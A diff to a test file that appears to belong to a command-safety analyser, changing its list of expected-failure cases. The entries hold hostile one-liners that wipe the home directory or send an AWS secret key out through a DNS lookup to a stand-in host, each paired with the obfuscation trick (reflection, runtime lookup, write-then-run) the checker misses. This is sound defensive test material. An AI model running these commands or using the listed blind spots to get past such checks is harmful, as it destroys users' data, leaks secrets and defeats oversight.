@@ -398,9 +398,6 @@ ORDINARY_SCRIPTS: list[tuple[str, dict[str, str]]] = [
 XFAIL: dict[str, str] = {
     "node -e \"Object.values(require('child_process')).find(f => f.name === 'execSync')('rm -rf ~')\"": "a member of a judged module chosen at run time (cp[f], Object.values(cp)) is not asked about",
     "node -e \"require('dns').resolve(process.env.AWS_SECRET_ACCESS_KEY + '.x.example', () => {})\"": "secrets reaching the network in a URL, host name or body (not a whole-environment dump) are asked about, not denied: no fact carries a secret variable's name",
-    "ruby -e 'require \"pathname\"; Pathname(Dir.home).children.each(&:rmtree)'": "a method passed as a block (&:rmtree) is not read as a call on each element",
-    "perl -MFile::Find -e 'find(sub { unlink $_ }, $ENV{HOME})'": "File::Find's callback does not bind $_ / $File::Find::name to the tree it walks",
-    'php -r \'(new ReflectionFunction("system"))->invoke("rm -rf ~");\'': "PHP reflection (ReflectionFunction->invoke) is not followed",
     "node x.js :: const fs = require('fs')\nfs.writeFileSync('/tmp/p.js', \"require('fs').rmSync(require('os').homedir(), {recursive: true})\")\nrequire('child_process').fork('/tmp/p.js')\n": "a file the code writes and then runs: written content is not kept and read as the script",
     'ruby x.rb :: def wipe(d)\n  system("rm -rf #{d}")\nend\nwipe(Dir.home)\n': "project scripts: a function's parameter is not bound to the arguments of its calls (no interprocedural reading); opaque facts of scripts are not asked about by design",
 }
